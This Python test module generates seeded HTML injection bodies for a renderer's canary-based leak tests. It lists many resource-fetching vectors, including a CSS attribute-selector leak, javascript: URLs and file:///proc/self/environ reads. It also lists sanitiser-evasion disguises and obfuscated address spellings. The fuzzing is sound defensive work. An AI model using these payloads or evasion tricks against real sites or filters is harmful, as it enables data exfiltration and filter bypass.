"""Hostile bodies without an end: the vectors of the canary, hidden, nested, broken and combined by a seeded die.

Each seed makes the same bodies for the same addresses.
"""

import base64
import random
from collections.abc import Callable, Iterator
from urllib.parse import quote

from tests.renderer.canary import VECTORS, Canary

# As in VECTORS: {url} is an address at the canary, {host} its host and port, {port} its port, {udp} its UDP address.
MORE = [
    '<link rel="stylesheet" href="data:text/css,@import%20url({url}/incss)">',
    '<link rel="preload" as="font" href="{url}/font.woff2" crossorigin><link rel="preload" as="fetch" href="{url}/f">',
    '<link rel="dns-prefetch" href="//lookup.{word}.example"><link rel="preconnect" href="//{word}.example">',
    '<link rel="expect" href="{url}/#x" blocking="render"><link rel="compression-dictionary" href="{url}/dictionary">',
    '<link rel="alternate stylesheet" href="{url}/alternate" title="x"><link rel="import" href="{url}/import">',
    '<link rel="preload" as="image" imagesrcset="{url}/imagesrcset 1x" imagesizes="100vw">',
    "<style>@namespace url({url}/namespace);@layer x;@import url({url}/layer) layer(x) supports(display:grid);</style>",
    "<style>p{{background:src('{url}/src');background:-webkit-image-set(url({url}/set) 1x)}}</style><p>x</p>",
    "<style>p{{background:cross-fade(url({url}/fade),url({url}/fade2),50%)}}</style><p>x</p>",
    "<style>@font-face{{font-family:g;src:local(x),url({url}/woff) format('woff2');unicode-range:U+41}}"
    "*{{font-family:g}}</style>A",
    "<style>p{{shape-outside:url({url}/shape);float:left;offset-path:url({url}/offset#p)}}</style><p>x</p>",
    "<style>@property --u{{syntax:'<url>';inherits:true;initial-value:url({url}/property)}}"
    "p{{background:var(--u)}}</style><p>x",
    "<style>li{{list-style:url({url}/bullet)}}::marker{{content:url({url}/marker)}}</style><ul><li>x</ul>",
    "<style>input[value^=a]{{background:url({url}/leak)}}</style><input value=abc>",
    "<style>@keyframes k{{to{{background:url({url}/key)}}}}p{{animation:k 1ms forwards}}</style><p>x</p>",
    "<style>@container (min-width:1px){{p{{background:url({url}/contained)}}}}div{{container-type:size;width:9px}}"
    "</style><div><p>x</div>",
    '<p style="-webkit-mask-box-image:url({url}/box);-webkit-box-reflect:below 0 url({url}/reflect)">x</p>',
    '<p style="behavior:url({url}/htc);-moz-binding:url({url}/xbl#x)">x</p>',
    '<svg><feImage href="{url}/fe"/><filter id=f><feImage xlink:href="{url}/fe2"/></filter><rect filter="url(#f)"/>',
    '<svg><image xlink:href="{url}/xlink"/><image><set attributeName="href" to="{url}/set"/></image></svg>',
    '<svg><image><animate attributeName="href" values="{url}/a1;{url}/a2" dur="1s"/></image></svg>',
    '<svg><pattern id=p href="{url}/pattern#p"/><linearGradient href="{url}/gradient#g"/><text><textPath '
    'href="{url}/text#t">x</textPath></text><mpath href="{url}/m"/><use xlink:href="{url}/u.svg#x"/></svg>',
    '<svg><rect fill="url({url}/paint.svg#p)" stroke="url({url}/stroke.svg#s)" marker-end="url({url}/mark#m)"/></svg>',
    '<svg><foreignObject><iframe src="{url}/foreignframe"></iframe><body background="{url}/fb"></foreignObject></svg>',
    '<?xml-stylesheet href="{url}/xsl" type="text/xsl"?><p>x</p>',
    '<!DOCTYPE html SYSTEM "{url}/dtd" [<!ENTITY x SYSTEM "{url}/entity">]><p>&x;</p>',
    "<iframe src=\"data:text/html,<img src='{url}/indata'>\"></iframe>",
    '<object type="image/svg+xml" data="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22>'
    '<image href=%22{url}/inobject%22/></svg>"></object>',
    '<iframe src="javascript:fetch(`{url}/jsurl`)"></iframe><a href="javascript:location=`{url}/j`" autofocus>x</a>',
    '<iframe src="about:blank" onload="this.contentWindow.location=`{url}/onframe`"></iframe>',
    '<iframe srcdoc="<meta http-equiv=refresh content=&quot;0;{url}/nested&quot;>"></iframe>',
    '<embed type="application/pdf" src="{url}/x.pdf"><object data="{url}/x.pdf" type="application/pdf"></object>',
    '<applet code="x" codebase="{url}/" archive="{url}/x.jar"></applet>',
    '<meta http-equiv="refresh" content="0;URL=\'{url}/quoted\'">',
    '<meta http-equiv="refresh" content="0; url=data:text/html,<img src={url}/refreshdata>">',
    '<meta http-equiv="set-cookie" content="a=b"><meta http-equiv="x-dns-prefetch-control" content="on">'
    '<a href="http://{word}.example/">x</a>',
    '<meta http-equiv="default-style" content="x"><link title=x rel="alternate stylesheet" href="{url}/default">',
    '<meta http-equiv="origin-trial" content="x"><meta http-equiv="Accept-CH" content="DPR"><img src="{url}/ch">',
    "<script>new WebTransport('https://{host}/');new Worker('{url}/worker');new SharedWorker('{url}/shared')</script>",
    "<script>navigator.serviceWorker.register('{url}/sw.js');importScripts('{url}/i.js')</script>",
    "<script type=module>import '{url}/static.js';import('{url}/dynamic.js')</script>",
    '<script type="importmap">{{"imports":{{"x":"{url}/map.js"}}}}</script><script type=module>import "x"</script>',
    "<script>document.write('<img src={url}/written>');open('{url}/open');document.forms[0].submit()</script>"
    '<form action="{url}/submitted" method="post"><input name=a></form>',
    "<script>new RTCPeerConnection({{iceServers:[{{urls:'turn:{udp}?transport=udp',username:'a',credential:'b'}}]}})"
    ".createOffer({{offerToReceiveAudio:true}})</script>",
    "<script>s=document.createElement('script');s.src='{url}/made.js';document.head.append(s)</script>",
    "<script>w=new XMLHttpRequest;w.open('GET','{url}/xhr',false);w.send()</script>",
    "<script>new PaymentRequest([{{supportedMethods:'{url}/pay'}}],{{total:{{label:'x',amount:{{currency:'EUR',"
    "value:'1'}}}}}});new Notification('x',{{icon:'{url}/notify'}})</script>",
    '<script type="speculationrules">{{"prerender":[{{"urls":["{url}/pre"]}}]}}</script>',
    '<body onpageshow="fetch(`{url}/pageshow`)" onresize="fetch(`{url}/resize`)"><details open ontoggle="'
    'fetch(`{url}/toggle`)">x</details>',
    "<input autofocus onfocus=\"navigator.sendBeacon('{url}/focus')\">",
    "<select autofocus onfocus=\"location='{url}/s'\"></select>",
    '<audio src="{url}/sound" preload="auto" autoplay></audio><video><source src="{url}/v" type="video/mp4"></video>',
    '<video poster="{url}/poster2" src="rtsp://{host}/stream"></video><embed src="mms://{host}/x">',
    '<img src="\\\\{host}\\share\\unc.png"><img src="file://{host}/share/unc.png"><a href="\\\\{host}\\x">x</a>',
    '<img src="file:///proc/self/environ"><iframe src="file:///etc/hosts"></iframe><link rel=stylesheet '
    'href="file:///tmp/x.css">',
    '<img src="chrome://gpu"><iframe src="chrome://version"></iframe>',
    '<img src="filesystem:{url}/x"><img src="blob:{url}/x">',
    '<img src="http://{word}.example:{port}/named"><img src="http://{word}.localhost:{port}/local">',
    '<img src="ws://{host}/wsimg"><img src="wss://{host}/wss"><img src="gopher://{host}/g"><img src="ldap://{host}/l">',
    '<img src="http://user:secret@{host}/userinfo"><img src="HTTP:\\\\{host}\\slashes"><img src="http:{host}/none">',
    '<img crossorigin="use-credentials" src="{url}/cors" fetchpriority="high" decoding="sync">',
    '<img referrerpolicy="unsafe-url" src="{url}/referrer">',
    '<img src="{url}/dangling?',
    "<img src='{url}/dangling2?x=",
    '<base href="//{host}/"><link rel=stylesheet href=a.css><img src=b><script src=c></script><iframe src=d></iframe>',
    '<base target="_blank"><a href="{url}/blank" autofocus>x</a><form action="{url}/f" target=_top><input autofocus>',
    '<!--[if mso]><img src="{url}/mso"><![endif]--><!--[if !mso]><!--><img src="{url}/notmso"><!--<![endif]-->',
    '<v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill type="frame" src="{url}/vml"/></v:rect>',
    '<input type="image" src="{url}/i" formaction="{url}/fa"><button formaction="{url}/b" autofocus>x</button>',
    '<table><thead background="{url}/thead"><tbody background="{url}/tb"><tr background="{url}/tr"><th background='
    '"{url}/th">x</table>',
    '<img dynsrc="{url}/dyn" lowsrc="{url}/low" longdesc="{url}/long" usemap="{url}/map#m">',
    '<blockquote cite="{url}/cite"><q cite="{url}/q">x</q></blockquote><del cite="{url}/del">x</del>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(`{url}/svgload`)"><script>fetch("{url}/s")</script></svg>',
    '<math><annotation-xml encoding="text/html"><img src="{url}/annotation"></annotation-xml><mglyph src="{url}/g"/>'
    "</math>",
    '<div popover id=p><img src="{url}/popover"></div><button popovertarget=p autofocus>x</button>'
    '<dialog open><img src="{url}/dialog"></dialog>',
    '<img sizes="auto" loading="lazy" srcset="{url}/auto 100w, {url}/auto2 900w"><img loading=eager src={url}/bare>',
]

_WRAPPERS = [
    "<div>{}</div>",
    "<table><tr><td>{}</td></tr></table>",
    "<blockquote><pre>{}</pre></blockquote>",
    "<svg><foreignObject width='99' height='99'>{}</foreignObject></svg>",
    "<svg><desc>{}</desc></svg>",
    "<svg><style>{}</style></svg>",
    "<math><mtext>{}</mtext></math>",
    "<math><annotation-xml encoding='text/html'>{}</annotation-xml></math>",
    "<template shadowrootmode='open'>{}</template>",
    "<div><template shadowrootmode='closed'><slot></slot>{}</template></div>",
    "<noscript>{}</noscript>",
    "<details open>{}</details>",
    "<select><option>{}</option></select>",
    "<button>{}</button>",
    "<marquee>{}</marquee>",
    "<object data='x:y'>{}</object>",
    "<video>{}</video>",
    "<picture>{}</picture>",
    "<head>{}</head>",
    "<frameset>{}</frameset>",
    "<form><fieldset>{}</fieldset></form>",
    "<a href='#x'>{}</a>",
    "<p>{}",
    "<!-- x --!>{}",
    "<!--><b>{}",
    "<![CDATA[>{}]]>",
    "<title></title>{}",
    "<textarea></textarea>{}",
    "<style></style>{}",
    "<xmp></xmp>{}",
    "<plaintext hidden></plaintext>{}",
    "<iframe></iframe>{}",
    "</body></html>{}",
    "<html><head></head><body>{}",
    "<x:y xmlns:x='http://x'>{}</x:y>",
    "<meta charset='utf-16'>{}",
    "<div dir='rtl' contenteditable lang='x'>{}</div>",
    "<section style='content-visibility:auto'>{}</section>",
]
_FRAMES: list[Callable[[str], str]] = [
    lambda body: f'<iframe srcdoc="{_escaped(body)}"></iframe>',
    lambda body: f'<iframe sandbox="allow-scripts allow-top-navigation" srcdoc="{_escaped(body)}"></iframe>',
    lambda body: f'<iframe src="data:text/html,{quote(body, errors="replace")}"></iframe>',
    lambda body: f'<iframe src="data:text/html;base64,{_base64(body)}"></iframe>',
    lambda body: (
        f'<object type="text/html" data="data:text/html;charset=utf-8,{quote(body, errors="replace")}"></object>'
    ),
    lambda body: f'<embed type="text/html" src="data:text/html;base64,{_base64(body)}">',
    lambda body: f'<img src="data:image/svg+xml;base64,{_base64(_svg(body))}">',
    lambda body: f'<object data="data:image/svg+xml,{quote(_svg(body), errors="replace")}"></object>',
    lambda body: f'<svg><image href="data:image/svg+xml,{quote(_svg(body), errors="replace")}"/></svg>',
    lambda body: f'<p style="background:url(data:image/svg+xml;base64,{_base64(_svg(body))})">x</p>',
    lambda body: f'<meta http-equiv="refresh" content="0;url=data:text/html,{quote(body, errors="replace")}">',
    lambda body: f'<link rel="stylesheet" href="data:text/css;base64,{_base64(body)}">',
]
_MOST_PARTS = 4
_DEEPEST = 5


def bodies(canaries: list[Canary], seed: int, count: int) -> Iterator[str]:
    """Yield this many bodies; each vector comes plain once for each canary before anything is mixed."""
    die = random.Random(seed)
    vectors = [*VECTORS, *MORE]
    plain = [_filled(vector, bird, f"http://{bird.address}") for bird in canaries for vector in vectors]
    yield from plain[:count]
    for number in range(len(plain), count):
        # Every vector has its turn as the first part.
        chosen = [vectors[number % len(vectors)], *die.choices(vectors, k=die.randrange(_MOST_PARTS))]
        parts = [_hidden(vector, die.choice(canaries), die) for vector in chosen]
        yield _broken("\n".join(parts), die)


def _filled(vector: str, bird: Canary, url: str) -> str:
    host, port = bird.address, bird.address.rpartition(":")[2]
    return vector.format(url=url, host=host, port=port, udp=bird.udp_address, word=f"canary-{port}")


def _hidden(vector: str, bird: Canary, die: random.Random) -> str:
    """Return one vector with its address spelled in another way, its markup disguised, and others around it."""
    body = _filled(vector, bird, _spelled(bird, die))
    for _time in range(die.randrange(3)):
        body = die.choice(_DISGUISES)(body, die)
    for _level in range(die.randrange(_DEEPEST)):
        body = die.choice(_FRAMES)(body) if die.random() < 0.3 else die.choice(_WRAPPERS).replace("{}", body)
    return body


def _spelled(bird: Canary, die: random.Random) -> str:
    """Return an address that leads to the canary, in one of the ways in which browsers read it."""
    host, port = bird.address.split(":")
    octets = [int(part) for part in host.split(".")]
    number = int.from_bytes(bytes(octets), "big")
    hexadecimal = ".".join(f"0x{octet:x}" for octet in octets)
    spellings = [
        f"http://{host}:{port}",
        f"//{host}:{port}",
        f"HtTp://{host}:{port}",
        f"http:\\\\{host}:{port}",
        f"\\/{host}:{port}",
        f"http:///{host}:{port}",
        f"http://a:b@{host}:{port}",
        f"http://{number}:{port}",
        f"http://{number:#x}:{port}",
        f"http://{'.'.join(f'0{octet:o}' for octet in octets)}:{port}",
        f"http://{hexadecimal}:{port}",
        f"http://[::ffff:{host}]:{port}",
        f"http://{host}.:{port}",
        f"http://localhost:{port}",
        f"http://a.localhost:{port}",
        f"ht\ttp://{host}:\n{port}",
        f" http://{host}:{port}",
        f"http://{'。'.join(map(str, octets))}:{port}",
        f"https://{host}:{port}",
        f"http://mail.invalid/../@{host}:{port}",
    ]
    return die.choice(spellings)


def _entities(body: str, die: random.Random) -> str:
    """Write characters of attribute values as character references."""
    forms = ("&#{0};", "&#x{0:x};", "&#0000{0};", "&#X{0:X};")
    return "".join(
        die.choice(forms).format(ord(letter)) if letter in ":/." and die.random() < 0.4 else letter for letter in body
    )


def _css_escapes(body: str, die: random.Random) -> str:
    names = {"url(": ["\\75 rl(", "u\\72l(", "\\000075\\000072\\00006c(", "URL("], "@import": ["@\\69mport", "@IMPORT"]}
    for name, forms in names.items():
        body = body.replace(name, die.choice(forms))
    return body


def _letter_case(body: str, die: random.Random) -> str:
    for name in ("img", "src", "href", "style", "link", "svg", "image", "iframe", "script", "http-equiv", "background"):
        body = body.replace(name, "".join(die.choice((letter, letter.upper())) for letter in name))
    return body


def _blanks(body: str, die: random.Random) -> str:
    """Put blanks that browsers skip where blanks or slashes may stand between attributes."""
    return "".join(
        die.choice(" \t\n\f/") + letter if letter == " " and die.random() < 0.5 else letter for letter in body
    )


def _unquoted(body: str, die: random.Random) -> str:
    return body.replace('"', die.choice(("", "'", "`", "&quot;")))


def _doubled(body: str, die: random.Random) -> str:
    """Nest a name in itself, as a cleaner that deletes once would leave it."""
    name = die.choice(("script", "iframe", "style", "src", "link"))
    return body.replace(name, name[:2] + name + name[2:])


def _with_controls(body: str, die: random.Random) -> str:
    place = die.randrange(len(body))
    return body[:place] + die.choice(("\x00", "\x0b", "\ufeff", "\u2028", "\x1b", "\u202e", "\ud800")) + body[place:]


_DISGUISES = [_entities, _css_escapes, _letter_case, _blanks, _unquoted, _doubled, _with_controls]


def _broken(body: str, die: random.Random) -> str:
    """Return the body as it is, or in one of ten cut, doubled or with a stray end of a comment, style or script."""
    if die.random() >= 0.1:
        return body
    place = die.randrange(len(body))
    stray = die.choice(("-->", "</style>", "</script>", "]]>", '">', "'>", "<", "<!", "<?", "</"))
    return die.choice((body[:place], body[:place] + stray + body[place:], body * 2, stray + body))


def _escaped(body: str) -> str:
    return body.replace("&", "&amp;").replace('"', "&quot;")


def _base64(body: str) -> str:
    return base64.b64encode(body.encode("utf-8", "replace")).decode()


def _svg(body: str) -> str:
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><foreignObject>'
        f'<body xmlns="http://www.w3.org/1999/xhtml">{body}</body></foreignObject></svg>'
    )
